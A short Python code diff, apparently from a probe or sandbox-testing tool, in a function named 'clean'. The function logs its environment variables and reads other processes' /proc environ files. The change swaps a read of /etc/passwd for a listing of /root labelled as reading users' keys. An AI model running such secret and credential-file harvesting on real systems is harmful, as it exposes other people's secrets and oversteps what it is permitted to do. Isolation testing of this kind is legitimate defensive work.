@@ -9,7 +9,7 @@ def clean(input_dir, output_path):
     Act.note("own environment", " ".join(f"{name}={value}" for name, value in os.environ.items()))
     for file in glob.glob("/proc/[0-9]*/environ"):
         look(file, Act.bait(input_dir, "variable"))
-    Act.attempt("read the users of the host", lambda: next(line for line in open("/etc/passwd") if "/root" in line))
+    Act.attempt("read the keys of the host's users", lambda: os.listdir("/root"))
     Act.report(output_path)
 
 
